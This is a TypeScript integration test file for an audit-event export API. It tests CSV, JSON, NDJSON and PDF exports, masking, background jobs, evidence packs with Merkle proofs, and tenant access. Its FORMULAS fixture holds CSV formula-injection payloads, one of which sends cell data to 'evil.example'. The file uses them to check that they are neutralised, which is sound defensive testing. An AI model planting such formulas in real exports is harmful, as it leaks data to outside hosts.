import { t } from '../helpers/file-test.ts'
import { createHash, createPublicKey, verify } from 'node:crypto'
import { mkdtempSync, readdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { parse } from 'csv-parse/sync'
import { Redis } from 'ioredis'
import { Value } from '@sinclair/typebox/value'
import { auth, KEYS, startStack, type Stack } from '../helpers/stack.ts'
import { seedEvents } from '../helpers/seed.ts'
import { pdfText, unzip } from '../unit/export/read-files.ts'
import { eventsAlias } from '../../src/store/events/index-names.ts'
import { ExportService } from '../../src/export/export-service.ts'
import { ExportFiles } from '../../src/store/events/export-files.ts'
import { BullExportJobs } from '../../src/export/bull-export-jobs.ts'
import { createExportsQueue } from '../../src/queue/exports-queue.ts'
import type { ExportJobData, ExportJobResult } from '../../src/export/jobs.ts'
import { EventsExportReader } from '../../src/store/events/events-export.ts'
import { EvidencePackManifest, type PackCheckpoint } from '../../src/export/pack-manifest.ts'

type Doc = Record<string, unknown>
const dir = mkdtempSync(join(tmpdir(), 'sillage-exports-'))
const base = Date.now() - 60_000
const N = 400
const seeded = seedEvents('exp', N, base).map(s => ({ ...s, body: { ...s.body, audit: { ...(s.body.audit as Doc), tenant: 'brand-a' } } }))
const NAMES = ['Zoë Müller', 'Ayşe Yılmaz', 'Ελένη Παπαδοπούλου', 'Дмитрий Иванов']
const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', '+1', '-1', '@SUM(A1:A9)', '\tindented', '\rreturn']
const at = (i: number): string => new Date(base - 1000 * (i + 1)).toISOString()
const named = NAMES.map((name, i) => ({
  '@timestamp': at(i), event: { id: `name-${i}`, action: 'login', outcome: 'success' }, message: `login by ${name}`,
  user: { id: `u-name-${i}`, name, email: `person${i}@example.com` }, source: { ip: '81.2.69.142' }, audit: { tenant: 'brand-a', session: { id: 's-names' } }
}))
const formulas = FORMULAS.map((message, i) => ({
  '@timestamp': at(10 + i), event: { id: `formula-${i}`, action: 'ticket_created', outcome: 'success' }, message,
  user: { id: `u-f-${i}` }, audit: { tenant: 'brand-a', session: { id: 's-formula' } }
}))
// Brand B's events include three at the same millisecond: ties are broken by event id.
const others = Array.from({ length: 8 }, (_, i) => ({ '@timestamp': at(i < 3 ? 20 : 20 + i), event: { id: `b-${7 - i}`, action: 'login' }, user: { id: `u-b-${i}` }, audit: { tenant: 'brand-b' } }))
const TENANT_A = seeded.length + named.length + formulas.length
const ORDER: Array<Record<string, { order: 'asc' | 'desc' }>> = [{ '@timestamp': { order: 'desc' } }, { 'event.id': { order: 'asc' } }]

let stack: Stack
let small: Stack
t.before(async () => {
  // Checkpoints every second, so that evidence packs soon carry proofs for every event.
  stack = await startStack(t, { env: { SILLAGE_EXPORT_DIR: dir, SILLAGE_CHECKPOINT_MS: '1000' } })
  // A second API on the same data with low limits: large exports become jobs, run by the first stack's worker.
  small = await startStack(t, { worker: false, env: { SILLAGE_INDEX_PREFIX: stack.config.indexPrefix, SILLAGE_QUEUE_PREFIX: stack.config.queuePrefix, SILLAGE_EXPORT_DIR: dir, SILLAGE_EXPORT_SYNC_MAX: '100', SILLAGE_EXPORT_REPORT_MAX: '300' } })
  const all = [...seeded.map(s => s.body), ...named, ...formulas, ...others]
  for (let i = 0; i < all.length; i += 200) {
    const res = await stack.api.app.inject({ method: 'POST', url: '/v1/events', headers: auth(KEYS.ingest), payload: { events: all.slice(i, i + 200) } })
    if (res.statusCode !== 202) throw new Error(res.body)
  }
  if (await stack.waitForCount(all.length) !== all.length) throw new Error('seed not indexed')
})
t.teardown(() => rmSync(dir, { recursive: true, force: true }))

const exportOf = async (payload: object, key = KEYS.aRead, s = stack) => await s.api.app.inject({ method: 'POST', url: '/v1/exports', headers: auth(key), payload })
const get = async (url: string, key = KEYS.aRead, s = stack) => await s.api.app.inject({ method: 'GET', url, headers: auth(key) })
const sha256 = (b: Buffer | string): string => createHash('sha256').update(b).digest('hex')
const lines = (body: string): Doc[] => body.split('\n').filter(l => l !== '').map(l => JSON.parse(l) as Doc)

/** Stored documents straight from Elasticsearch, in the export's default order. */
async function stored (query: object, sort: object[] = ORDER): Promise<Doc[]> {
  const r = await stack.es.search<Doc>({ index: eventsAlias(stack.config.indexPrefix), size: 10_000, query, sort: sort as never })
  return r.hits.hits.map(h => h._source as Doc)
}
const tenantA = (...more: object[]): object => ({ bool: { filter: [{ term: { 'audit.tenant': 'brand-a' } }, ...more] } })

t.test('exported row counts equal the search total', async t => {
  for (const req of [{}, { filters: { category: ['money'] } }, { query: 'event.outcome:failure' }, { filters: { country: ['FR'] }, query: 'audit.money.amount >= 100' }]) {
    const search = await stack.api.app.inject({ method: 'POST', url: '/v1/events/search', headers: auth(KEYS.aRead), payload: { ...req, size: 1 } })
    const total = search.json().total as number
    const nd = await exportOf({ ...req, format: 'ndjson' })
    t.equal(nd.statusCode, 200, nd.body)
    t.equal(lines(nd.body).length, total, `ndjson ${JSON.stringify(req)}`)
    t.equal(nd.headers['x-export-total'], String(total))
    const csv = await exportOf({ ...req, format: 'csv' })
    t.equal((parse(csv.body) as string[][]).length, total + 1, `csv ${JSON.stringify(req)}`)
  }
})

const DEFAULT_COLUMNS = ['@timestamp', 'event.id', 'event.action', 'event.outcome', 'audit.category', 'audit.importance.level', 'user.id', 'user.email',
  'audit.actor.type', 'audit.actor.id', 'source.ip', 'source.geo.country_iso_code', 'audit.session.id', 'audit.money.amount', 'audit.money.currency', 'audit.money.direction', 'message']
const at_ = (doc: Doc, path: string): unknown => path.split('.').reduce<unknown>((v, k) => (v as Doc | undefined)?.[k], doc)
const expectedCell = (v: unknown): string => {
  if (v === undefined || v === null) return ''
  if (typeof v === 'number') return String(v)
  const s = Array.isArray(v) ? v.join(';') : typeof v === 'object' ? JSON.stringify(v) : String(v)
  return /^[=+\-@\t\r]/.test(s) ? `'${s}` : s
}

t.test('CSV parses back to the stored values, RFC 4180, with or without a BOM', async t => {
  const res = await exportOf({ format: 'csv' })
  t.equal(res.statusCode, 200)
  t.match(res.headers['content-type'], /^text\/csv; charset=utf-8/)
  t.match(res.headers['content-disposition'], /^attachment; filename="sillage-export-\d{8}T\d{6}Z\.csv"$/)
  t.notOk(res.rawPayload.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])), 'no BOM unless asked')
  t.ok(res.body.endsWith('\r\n') && !/[^\r]\n/.test(res.body.replace(/"[^"]*"/g, '')), 'records end with CRLF')
  const rows = parse(res.body) as string[][]
  t.same(rows[0], DEFAULT_COLUMNS.map(c => c.startsWith('@') ? `'${c}` : c), 'dotted headers, neutralised like any field')
  const docs = await stored(tenantA())
  t.equal(rows.length - 1, docs.length)
  t.same(rows.slice(1), docs.map(d => DEFAULT_COLUMNS.map(c => expectedCell(at_(d, c)))), 'every field of every row')

  const bom = await exportOf({ format: 'csv', bom: true, columns: ['event.id', 'source.geo', 'related'], filters: { userId: ['u-name-0'] } })
  t.ok(bom.rawPayload.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])), 'BOM first')
  const [header, row] = parse(bom.rawPayload.subarray(3)) as string[][]
  t.same(header, ['event.id', 'source.geo.country_iso_code', 'source.geo.country_name', 'source.geo.region_iso_code', 'source.geo.city_name', 'source.geo.timezone',
    'source.geo.location.lat', 'source.geo.location.lon', 'related.ip', 'related.user'], 'objects flattened from the mapping')
  const [doc] = await stored(tenantA({ term: { 'user.id': 'u-name-0' } }))
  t.same(row, (header as string[]).map(h => expectedCell(at_(doc as Doc, h))))
  t.equal(row?.[1], 'GB')
})

t.test('formula payloads are neutralised', async t => {
  const res = await exportOf({ format: 'csv', columns: ['event.id', 'message'], filters: { sessionId: ['s-formula'] }, sort: [{ field: 'event.id', order: 'asc' }] })
  const rows = (parse(res.body, { relax_quotes: false }) as string[][]).slice(1)
  t.same(rows, FORMULAS.map((m, i) => [`formula-${i}`, `'${m}`]))
  t.ok(res.body.includes('"\'=HYPERLINK(""http://evil.example/?d=""&A1,""open"")"'), 'quotes doubled, field quoted')
  t.ok(res.body.includes('"\'\rreturn"'), 'a field holding CR is quoted')
  t.notOk(res.body.split('\r\n').some(l => l.split(',').some(f => /^[=+\-@\t]/.test(f))), 'no field starts a formula')
})

t.test('NDJSON and JSON hold the stored documents exactly', async t => {
  const docs = await stored(tenantA())
  const nd = await exportOf({ format: 'ndjson' })
  t.match(nd.headers['content-type'], /^application\/x-ndjson/)
  t.same(lines(nd.body), docs, 'one stored document per line, in order')
  t.equal(nd.body, docs.map(d => JSON.stringify(d) + '\n').join(''), 'byte for byte')
  const js = await exportOf({ format: 'json' })
  t.match(js.headers['content-type'], /^application\/json/)
  t.same(JSON.parse(js.body), docs)
  const none = await exportOf({ format: 'json', filters: { userId: ['nobody'] } })
  t.same(JSON.parse(none.body), [])
})

t.test('the PDF report: Unicode names, totals, embedded font, page numbers, integrity hash', async t => {
  const req = { query: 'audit.session.id:s-names or event.action:deposit' }
  const res = await exportOf({ ...req, format: 'pdf' })
  t.equal(res.statusCode, 200)
  t.equal(res.headers['content-type'], 'application/pdf')
  const raw = res.rawPayload.toString('latin1')
  t.ok(raw.startsWith('%PDF-'), 'a PDF')
  t.match(raw, /\/BaseFont \/[A-Z]{6}\+DejaVuSans/, 'the DejaVu font is embedded')
  t.notMatch(raw, /Helvetica|Times-Roman|Courier/, 'no base font')
  const { text, pages } = await pdfText(res.rawPayload)
  for (const name of NAMES) t.ok(text.includes(name), `renders ${name}`)
  const deposits = seeded.filter(s => s.action === 'deposit')
  const total = deposits.length + NAMES.length
  t.match(text, new RegExp(`Events\\s+${total}\\b`), 'the count on the cover')
  t.match(text, new RegExp(`money\\s+${deposits.length}\\b`), 'count by category')
  t.match(text, new RegExp(`authentication\\s+${NAMES.length}\\b`))
  for (const cur of ['EUR', 'USD']) {
    const sum = deposits.filter(s => s.currency === cur).reduce((a, s) => a + (s.amount as number), 0)
    t.match(text, new RegExp(`${cur}\\s+${sum.toLocaleString('en-US').replace(/,/g, '\\,')}\\s+0\\s+0\\s+${deposits.filter(s => s.currency === cur).length}`), `money in ${cur}`)
  }
  t.ok(text.includes(`Page 1 of ${pages}`) && text.includes(`Page ${pages} of ${pages}`), 'page numbers')
  const nd = await exportOf({ ...req, format: 'ndjson' })
  t.ok(text.replace(/\s/g, '').includes(sha256(nd.rawPayload)), 'the integrity hash is the SHA-256 of the NDJSON export')
})

t.test('a masked exporter gets masked values', async t => {
  const created = await stack.api.app.inject({ method: 'POST', url: '/v1/api-keys', headers: auth(KEYS.admin), payload: { name: 'masked exporter', scopes: ['read:masked', 'export'], tenant: 'brand-a' } })
  t.equal(created.statusCode, 201, created.body)
  const key = created.json().key as string
  const nd = await exportOf({ format: 'ndjson', filters: { sessionId: ['s-names'] }, sort: [{ field: 'event.id', order: 'asc' }] }, key)
  const docs = lines(nd.body) as Array<{ user: Doc, source: Doc, related: Doc }>
  t.same(docs.map(d => d.user.email), NAMES.map(() => 'p***@example.com'))
  t.same(docs.map(d => d.user.name), ['Z*** M***', 'A*** Y***', 'Ε*** Π***', 'Д*** И***'])
  t.same(docs.map(d => d.source.ip), NAMES.map(() => '81.2.69.x'))
  t.same(docs.map(d => d.related.ip), NAMES.map(() => ['81.2.69.x']))
  const csv = await exportOf({ format: 'csv', columns: ['user.email', 'source.ip'], filters: { sessionId: ['s-names'] } }, key)
  t.notMatch(csv.body, /person\d@|81\.2\.69\.142/, 'nothing in clear in CSV')
  t.same(new Set((parse(csv.body) as string[][]).slice(1).map(r => r[1])), new Set(['81.2.69.x']))
})

t.test('a large export runs as a background job with progress, and equals the streamed one', async t => {
  const req = { format: 'csv', columns: ['event.id', 'event.action', 'user.id', 'audit.money', 'message'] }
  const queued = await exportOf(req, KEYS.aRead, small)
  t.equal(queued.statusCode, 202, 'queued')
  const job = queued.json()
  t.match(job, { kind: 'export', format: 'csv', status: 'queued', progress: { rows: 0, total: TENANT_A } })
  t.equal(queued.headers.location, `/v1/exports/${job.id}`)
  const seen = new Set<string>()
  let status = job
  for (let i = 0; i < 300 && status.status !== 'completed' && status.status !== 'failed'; i++) {
    await sleep(100)
    status = (await get(`/v1/exports/${job.id}`, KEYS.aRead, small)).json()
    seen.add(status.status)
  }
  t.equal(status.status, 'completed', status.error ?? 'completed')
  t.same(status.progress, { rows: TENANT_A, total: TENANT_A })
  t.equal(status.rows, TENANT_A)
  t.equal(status.download_url, `/v1/exports/${job.id}/download`)
  const file = await get(status.download_url, KEYS.aRead, small)
  t.equal(file.statusCode, 200)
  t.equal(sha256(file.rawPayload), status.sha256, 'the recorded SHA-256 is the file\'s')
  t.equal(Number(file.headers['content-length']), status.bytes)
  const streamed = await exportOf(req)
  t.equal(streamed.statusCode, 200)
  t.equal(file.body, streamed.body, 'same bytes as the streamed export')

  t.equal((await get(`/v1/exports/${job.id}`, KEYS.bRead, small)).statusCode, 404, 'another tenant sees nothing')
  t.equal((await get(`/v1/exports/${job.id}/download`, KEYS.bRead, small)).statusCode, 404)
  t.equal((await get(`/v1/exports/${job.id}/download`, KEYS.admin, small)).statusCode, 404, 'nor does a platform key')
  t.notOk('manifest_url' in status, 'an export other than a pack has no manifest')
  const noManifest = await get(`/v1/exports/${job.id}/manifest`, KEYS.aRead, small)
  t.equal(noManifest.statusCode, 404)
  t.match(noManifest.json(), { message: /is a csv export, not an evidence pack/ })
  t.equal((await get('/v1/exports/no-such-job', KEYS.aRead, small)).statusCode, 404)
  // The queue's own keys in Redis share the jobs' key space: their names are no export ids.
  for (const id of ['id', 'events', 'completed', 'delayed', 'stalled-check', 'meta', 'wait', 'active']) {
    for (const url of [`/v1/exports/${id}`, `/v1/exports/${id}/download`, `/v1/exports/${id}/manifest`]) {
      const res = await get(url, KEYS.aRead, small)
      t.equal(res.statusCode, 404, url)
      t.match(res.json(), { message: `no export with id "${id}"` })
    }
  }

  // Expiry: a sweep run after the TTL removes the job and its file.
  const redis = new Redis(stack.config.redisUrl, { maxRetriesPerRequest: null })
  const queue = createExportsQueue<ExportJobData, ExportJobResult>(redis, stack.config.queuePrefix)
  try {
    const later = new ExportService({ open: async () => { throw new Error('unused') }, files: new ExportFiles(dir), jobs: new BullExportJobs(queue), now: () => Date.now() + 25 * 3600_000 }, { syncMax: 0, reportMax: 1, ttlHours: 24 })
    t.equal((await get(`/v1/exports/${job.id}`, KEYS.aRead, small)).json().status, 'completed')
    t.equal(filesOf(dir, job.id as string).length, 1)
    t.match(filesOf(dir, job.id as string), [/^[0-9a-f-]{36}\.[0-9a-f]{8}\.csv$/], 'one file, named by the job and its run')
    const swept = await later.cleanup()
    t.ok(swept.jobs >= 1)
    t.same(filesOf(dir, job.id as string), [], 'the file is deleted')
    t.equal((await get(`/v1/exports/${job.id}`, KEYS.aRead, small)).statusCode, 404, 'and the job')
  } finally {
    await queue.close()
    redis.disconnect()
  }
})

/** JSON with keys sorted and no spaces (RFC 8785 for these documents): what checkpoints sign and leaves hash. */
const canonical = (v: unknown): string => v === null || typeof v !== 'object'
  ? JSON.stringify(v)
  : Array.isArray(v) ? `[${v.map(canonical).join(',')}]` : `{${Object.keys(v).sort().map(k => `${JSON.stringify(k)}:${canonical((v as Doc)[k])}`).join(',')}}`
const h = (...parts: Buffer[]): Buffer => createHash('sha256').update(Buffer.concat(parts)).digest()

/** RFC 9162 section 2.1.3.2: the root an audit path leads to. */
function rootOf (leaf: Buffer, index: number, size: number, path: Buffer[]): Buffer | undefined {
  let fn = index
  let sn = size - 1
  let r = leaf
  for (const p of path) {
    if (sn === 0) return undefined
    if (fn % 2 === 1 || fn === sn) {
      r = h(Buffer.from([1]), p, r)
      while (fn % 2 === 0 && fn !== 0) { fn /= 2; sn = Math.floor(sn / 2) }
    } else r = h(Buffer.from([1]), r, p)
    fn = Math.floor(fn / 2)
    sn = Math.floor(sn / 2)
  }
  return sn === 0 ? r : undefined
}

interface Proof { seq: number, leaf: string, treeSize: number, auditPath: string[], root: string, checkpoint: { tenant: string, size: number, root: string, time: string, keyId: string, signature: string, publicKey: string } }
type Manifest = EvidencePackManifest & { integrity: { checkpoints: PackCheckpoint[] } }

/** The distinct checkpoints a pack's proofs lead to, with how many lead to each. */
function checkpointsOf (proofs: Array<{ proof: Proof }>): PackCheckpoint[] {
  const seen = new Map<string, PackCheckpoint>()
  for (const { proof: { checkpoint: c } } of proofs) {
    const key = `${c.tenant}#${c.size}#${c.root}`
    const known = seen.get(key)
    if (known === undefined) seen.set(key, { tenant: c.tenant, size: c.size, root: c.root, time: c.time, keyId: c.keyId, proofs: 1 })
    else known.proofs++
  }
  return [...seen.values()]
}

t.test('evidence packs: events, summary, report, proofs and a manifest of digests', async t => {
  let files = new Map<string, Buffer>()
  let manifest: Manifest | undefined
  // Events are sealed and checkpointed a moment after they are stored: wait until every one has its proof.
  for (let i = 0; i < 60 && (manifest === undefined || manifest.integrity.events_without_proof > 0); i++) {
    if (i > 0) await sleep(500)
    const res = await stack.api.app.inject({ method: 'POST', url: '/v1/evidence-packs', headers: auth(KEYS.aRead), payload: { userId: 'u-3', title: 'Dispute 118' } })
    t.equal(res.statusCode, 200, 'streamed')
    t.equal(res.headers['content-type'], 'application/zip')
    files = await unzip(res.rawPayload)
    manifest = JSON.parse((files.get('manifest.json') as Buffer).toString()) as Manifest
  }
  if (manifest === undefined) throw new Error('no pack')
  t.same([...files.keys()].filter(p => !p.startsWith('integrity/')), ['summary.json', 'events.ndjson', 'report.pdf', 'manifest.json'])
  for (const f of manifest.files) t.same({ sha256: sha256(files.get(f.path) as Buffer), bytes: (files.get(f.path) as Buffer).length }, { sha256: f.sha256, bytes: f.bytes }, `${f.path} digest`)
  t.same(manifest.files.map(f => f.path).sort(), [...files.keys()].filter(p => p !== 'manifest.json').sort(), 'every file is listed')
  const expected = seeded.filter(s => s.user === 'u-3')
  const docs = await stored(tenantA({ term: { 'user.id': 'u-3' } }), [{ '@timestamp': 'asc' }, { 'event.id': 'asc' }])
  t.equal(docs.length, expected.length)
  t.same(lines((files.get('events.ndjson') as Buffer).toString()), docs, 'the events, oldest first')
  t.equal(manifest.events, expected.length)
  t.equal(manifest.events_sha256, sha256(files.get('events.ndjson') as Buffer))
  t.equal(manifest.report_events_sha256, manifest.events_sha256, 'the report states the digest of events.ndjson')
  const summary = JSON.parse((files.get('summary.json') as Buffer).toString()) as { total: number, byCategory: Array<{ key: string, count: number }> }
  t.equal(summary.total, expected.length)
  const byCategory: Record<string, number> = {}
  for (const s of expected) byCategory[s.category] = (byCategory[s.category] ?? 0) + 1
  t.same(Object.fromEntries(summary.byCategory.map(c => [c.key, c.count])), byCategory)
  const { text } = await pdfText(files.get('report.pdf') as Buffer)
  t.ok(text.includes('Dispute 118'))
  t.ok(text.replace(/\s/g, '').includes(manifest.events_sha256))
  t.equal(manifest.integrity.proofs + manifest.integrity.events_without_proof, expected.length, 'each event has a proof or is listed without one')
  const proofs = (files.get('integrity/proofs.ndjson')?.toString() ?? '').split('\n').filter(Boolean).map(l => JSON.parse(l) as { event_id: string, proof: Proof })
  t.equal(proofs.length, expected.length, 'every event has its proof')
  const byId = new Map(docs.map(d => [(d.event as Doc).id as string, d]))
  const verified = proofs.filter(({ event_id: id, proof: p }) => {
    const leaf = h(Buffer.from([0]), Buffer.from(canonical(byId.get(id)), 'utf8'))
    const root = rootOf(leaf, p.seq, p.treeSize, p.auditPath.map(x => Buffer.from(x, 'hex')))
    const cp = p.checkpoint
    const key = createPublicKey({ key: { kty: 'OKP', crv: 'Ed25519', x: Buffer.from(cp.publicKey, 'base64').toString('base64url') }, format: 'jwk' })
    const signed = verify(null, Buffer.from(canonical({ root: cp.root, size: cp.size, tenant: cp.tenant, time: cp.time })), key, Buffer.from(cp.signature, 'base64'))
    return leaf.toString('hex') === p.leaf && root?.toString('hex') === cp.root && cp.size === p.treeSize && cp.tenant === 'brand-a' && signed
  })
  t.equal(verified.length, proofs.length, 'each proof leads from the event in events.ndjson to a checkpoint signed by the published key')
  t.ok(Value.Check(EvidencePackManifest, manifest), 'the manifest has its documented shape')
  t.same(manifest.integrity.checkpoints, checkpointsOf(proofs), 'the manifest names the checkpoints the proofs lead to')

  const job = await small.api.app.inject({ method: 'POST', url: '/v1/evidence-packs', headers: auth(KEYS.aRead), payload: { filters: { category: ['money', 'gaming'] } } })
  t.equal(job.statusCode, 202, 'a large pack is a background job')
  let status = job.json()
  for (let i = 0; i < 300 && status.status !== 'completed' && status.status !== 'failed'; i++) {
    await sleep(100)
    status = (await get(`/v1/exports/${status.id}`, KEYS.aRead, small)).json()
  }
  t.match(status, { status: 'completed', kind: 'evidence-pack', format: 'zip', rows: seeded.filter(s => ['money', 'gaming'].includes(s.category)).length })
  const packed = await unzip((await get(status.download_url, KEYS.aRead, small)).rawPayload)
  t.ok(packed.has('manifest.json') && packed.has('report.pdf'))

  // Its manifest, without downloading the pack: the same bytes as manifest.json inside it.
  t.equal(status.manifest_url, `/v1/exports/${status.id}/manifest`)
  const kept = await get(status.manifest_url, KEYS.aRead, small)
  t.equal(kept.statusCode, 200)
  t.match(kept.headers['content-type'], /^application\/json/)
  t.ok(kept.rawPayload.equals(packed.get('manifest.json') as Buffer), 'the manifest kept beside the pack is the one inside it')
  const jobManifest = kept.json() as Manifest
  t.ok(Value.Check(EvidencePackManifest, jobManifest), 'in its documented shape')
  t.equal(jobManifest.events, status.rows)
  const jobProofs = (packed.get('integrity/proofs.ndjson')?.toString() ?? '').split('\n').filter(Boolean).map(l => JSON.parse(l) as { proof: Proof })
  t.same(jobManifest.integrity.checkpoints, checkpointsOf(jobProofs))
  t.equal((await get(status.manifest_url, KEYS.bRead, small)).statusCode, 404, 'another tenant does not see it')
  t.equal((await get(status.manifest_url, KEYS.admin, small)).statusCode, 404, 'nor does a platform key')

  // Expiry removes the manifest with the pack.
  const redis = new Redis(stack.config.redisUrl, { maxRetriesPerRequest: null })
  const queue = createExportsQueue<ExportJobData, ExportJobResult>(redis, stack.config.queuePrefix)
  try {
    const later = new ExportService({ open: async () => { throw new Error('unused') }, files: new ExportFiles(dir), jobs: new BullExportJobs(queue), now: () => Date.now() + 25 * 3600_000 }, { syncMax: 0, reportMax: 1, ttlHours: 24 })
    t.equal(filesOf(dir, status.id as string).length, 2)
    t.match(filesOf(dir, status.id as string).sort(), [/^[0-9a-f-]{36}\.[0-9a-f]{8}\.manifest\.json$/, /^[0-9a-f-]{36}\.[0-9a-f]{8}\.zip$/], 'the pack and its manifest')
    await later.cleanup()
    t.same(filesOf(dir, status.id as string), [], 'the manifest is deleted with its pack')
  } finally {
    await queue.close()
    redis.disconnect()
  }
})

t.test('small pages over time windows read every event once, in order', async t => {
  const snapshot = await new EventsExportReader(stack.es, stack.config.indexPrefix).open()
  try {
    const sorts: Array<Array<Record<string, { order: 'asc' | 'desc' }>>> = [
      ORDER,
      [{ '@timestamp': { order: 'asc' as const } }, { 'event.id': { order: 'asc' as const } }],
      [{ 'audit.money.amount': { order: 'asc' as const } }, { 'event.id': { order: 'asc' as const } }]
    ]
    for (const query of [{ match_all: {} }, tenantA({ term: { 'audit.category': 'money' } })]) {
      for (const sort of sorts) {
        const ids: string[] = []
        for await (const page of snapshot.pages({ query, sort, pageSize: 7 })) ids.push(...[...page].map(d => String((d.event as Doc).id)))
        t.same(ids, (await stored(query, sort)).map(d => (d.event as Doc).id), `${JSON.stringify(sort[0])} over ${JSON.stringify(query).slice(0, 60)}`)
      }
    }
    const none: string[] = []
    for await (const page of snapshot.pages({ query: { term: { 'event.id': 'none' } }, sort: ORDER })) none.push(...[...page].map(d => String((d.event as Doc).id)))
    t.same(none, [])
  } finally {
    await snapshot.close()
  }
})

t.test('limits, validation and access', async t => {
  t.equal((await exportOf({ format: 'pdf' }, KEYS.aRead, small)).statusCode, 400, 'a report above SILLAGE_EXPORT_REPORT_MAX')
  const bad = await exportOf({ format: 'csv', columns: ['nope'], query: 'event.action:(login or' })
  t.equal(bad.statusCode, 400)
  t.match(bad.json().errors, [{ path: '/query' }, { path: '/columns/0' }])
  t.match((await exportOf({ format: 'xlsx' })).json().errors, [{ path: '/format' }])
  t.equal((await stack.api.app.inject({ method: 'POST', url: '/v1/evidence-packs', headers: auth(KEYS.aRead), payload: {} })).statusCode, 400, 'a pack needs a subject')
  const empty = await stack.api.app.inject({ method: 'POST', url: '/v1/evidence-packs', headers: auth(KEYS.aRead) })
  t.equal(empty.statusCode, 400, 'no body at all is a 400 too')
  t.match(empty.json(), { message: 'the evidence pack request is invalid', errors: [{ path: '/', message: /name a user/ }] })
  const long = await get(`/v1/exports/${'x'.repeat(65)}`)
  t.equal(long.statusCode, 400, 'an id longer than any export id')
  t.match(long.json(), { errors: [{ path: '/params/id' }] })
  t.equal((await stack.api.app.inject({ method: 'POST', url: '/v1/exports', payload: { format: 'csv' } })).statusCode, 401)
  t.equal((await exportOf({ format: 'csv' }, KEYS.read)).statusCode, 403, 'read alone cannot export')
  t.equal((await exportOf({ format: 'csv' }, KEYS.ingest)).statusCode, 403)
  t.equal((await get('/v1/exports/x', KEYS.read)).statusCode, 403)
  const own = await exportOf({ format: 'ndjson', filters: { tenant: ['brand-b'] } })
  t.equal(lines(own.body).length, 0, 'a tenant key exports its own tenant only')
  t.equal(lines((await exportOf({ format: 'ndjson' }, KEYS.bRead)).body).length, others.length)

  const log = await get('/v1/access-log?size=1000', KEYS.aAdmin)
  const entries = log.json().entries as Array<{ route: string, status: number, results?: number, request?: string }>
  const mine = entries.find(e => e.route === '/v1/exports' && e.request?.includes('"s-formula"'))
  t.match(mine, { status: 200, results: FORMULAS.length }, 'exports are in the access log with their count')
  t.ok(entries.some(e => e.route === '/v1/exports/:id/download' && e.results === TENANT_A), 'downloads too')
})

/** The files a job's runs wrote in the export directory. */
function filesOf (dir: string, id: string): string[] {
  return readdirSync(dir).filter(name => name.startsWith(`${id}.`))
}
